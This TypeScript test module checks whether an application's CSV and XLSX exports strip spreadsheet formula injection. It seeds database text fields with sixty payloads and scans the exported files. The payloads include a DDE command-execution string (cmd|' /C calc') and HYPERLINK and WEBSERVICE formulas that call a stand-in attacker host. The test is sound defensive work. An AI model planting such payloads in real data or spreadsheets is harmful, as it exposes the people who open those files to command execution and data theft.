import type { Operation } from '../api.ts'
import { nextAddress } from '../call.ts'
import { type Line, spread } from '../line.ts'
import type { Principal, Scene } from '../scene/index.ts'
import type { Site } from '../site.ts'
import { textOfZip } from '../unzip.ts'

const STARTS = ['=', '+', '-', '@', '\t=', '\r=', '＝', '＋', '－', '＠', ' =', '\n=']
const BODIES = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://evil.example","x")',
  'SUM(A1:A9)*cmd',
  'WEBSERVICE("https://evil.example")',
]
/** Sixty ways to begin a cell as a program. */
const PAYLOADS = STARTS.flatMap((s) => BODIES.map((b) => `${s}${b}`))

const DANGER = /^[=+\-@\t\r\n＝＋－＠\0]/
const isNumber = (cell: string) => /^[-+]?[\d.,]+%?$/.test(cell)

/** The cells of a CSV as a program reads them. */
export const cellsOfCsv = (csv: string): string[] =>
  [...csv.matchAll(/(?:^|,|\r?\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map(
    (m) => m[1]?.replaceAll('""', '"') ?? m[2] ?? '',
  )
export const isFormula = (cell: string) =>
  DANGER.test(cell.trimStart() === cell ? cell : cell.replace(/^ +/, '')) && !isNumber(cell)

type Column = { table_name: string; column_name: string }
const TEXTS = `select c.table_name, c.column_name from information_schema.columns c
  join information_schema.tables t using (table_schema, table_name)
  where c.table_schema = 'public' and t.table_type = 'BASE TABLE' and c.data_type in ('text', 'character varying')
    and exists (select from information_schema.columns p where p.table_schema = 'public' and p.table_name = c.table_name and p.column_name = 'park_id')`

/** Every text of the park that somebody typed in begins as a formula, told apart by the words that the scene put there. */
const sow = async (site: Site, parkId: string) => {
  const { world } = site
  const { default: pg } = await import('pg')
  const client = new pg.Client({ connectionString: world.ownerUrl })
  await client.connect()
  const { rows } = await client.query<Column>(TEXTS)
  let [columns, fields] = [0, 0]
  for (const { table_name: table, column_name: column } of rows) {
    const [t, c] = [client.escapeIdentifier(table), client.escapeIdentifier(column)]
    const set = `update ${t} set ${c} = ($2::text[])[1 + abs(hashtext(${c})) % ${PAYLOADS.length}] || ${c} where park_id = $1 and ${c} ~ 'zq(ow|si|ou)'`
    const { rowCount } = await client.query(set, [parkId, PAYLOADS]).catch(() => ({ rowCount: 0 }))
    if (rowCount) columns++
    fields += rowCount ?? 0
  }
  await client.end()
  return { columns, fields }
}

const exportsOf = (operations: readonly Operation[]) =>
  operations.filter((op) => op.method === 'GET' && op.query.some((q) => q.name === 'format') && op.params.length === 0)

const take = async (site: Site, op: Operation, who: Principal, format: 'csv' | 'xlsx') => {
  const url = `${op.path}?format=${format}`
  const r = await site.world.app.inject({ method: 'GET', url, headers: who.headers, remoteAddress: nextAddress() })
  if (r.statusCode !== 200) return undefined
  if (format === 'csv') {
    const cells = cellsOfCsv(r.body.replace(/^\ufeff/, ''))
    return {
      bad: cells.filter(isFormula),
      kept: cells.filter((c) => PAYLOADS.some((p) => c.includes(p.trim()))).length,
    }
  }
  const text = await textOfZip(r.rawPayload)
  return { bad: text.match(/<f[ >][^<]*/g) ?? [], kept: 0 }
}

const harvest = async (site: Site, scene: Scene) => {
  const readers = scene.principals.filter((p) =>
    ['desk', 'leader', 'system-admin', 'security-admin', 'group-leader'].includes(p.name),
  )
  const [failures, told] = [[] as string[], { sheets: 0, kept: 0 }]
  await spread(exportsOf(site.api.operations), 4, async (op) => {
    for (const format of ['csv', 'xlsx'] as const)
      for (const who of readers) {
        const taken = await take(site, op, who, format)
        if (!taken) continue
        told.sheets++
        told.kept += taken.kept
        failures.push(...taken.bad.map((cell) => `${op.id} as ${format}: ${JSON.stringify(cell.slice(0, 60))}`))
        break
      }
  })
  return { failures, ...told }
}

export const inp6: Line = {
  id: 'inp-6',
  title: `${PAYLOADS.length} formulas at the beginning of every text, in every list that can be exported`,
  required: '0 cells that are formulas, the text still there',
  run: async (site) => {
    const scene = await site.scene()
    const { columns, fields } = await sow(site, scene.park.id)
    const { failures, sheets, kept } = await harvest(site, scene)
    const naive = PAYLOADS.map((p) => `"${p.replaceAll('"', '""')}"`).join(',')
    return {
      figures: [
        `${fields} fields of ${columns} columns sown, ${sheets} sheets: ${failures.length} formulas, ${kept} cells with their text`,
      ],
      failures: [...failures, ...(kept ? [] : ['no payload came out at all: nothing was shown'])],
      power: [
        {
          planted: 'a writer that writes cells as they are',
          found: cellsOfCsv(naive).filter(isFormula).length === PAYLOADS.length,
        },
      ],
    }
  },
}
